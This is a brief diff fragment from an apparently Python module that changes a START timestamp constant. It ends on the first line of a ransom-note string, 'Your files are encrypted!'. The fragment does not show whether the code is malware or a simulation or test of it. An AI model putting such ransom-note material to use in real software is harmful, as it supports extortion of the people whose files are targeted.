@@ -26,7 +26,7 @@ from garde.legal import policy, state
 from garde.legal.memory import Draft, Running, State, running_key
 
 P = TypeVar("P", bound=Payload)
-START = 1_700_000_000.0
+START = 1_795_842_000.0  # 2026-11-28 05:00 UTC
 HOUR = 3600.0
 DAY = 24 * HOUR
 NOTE = b"""Your files are encrypted!
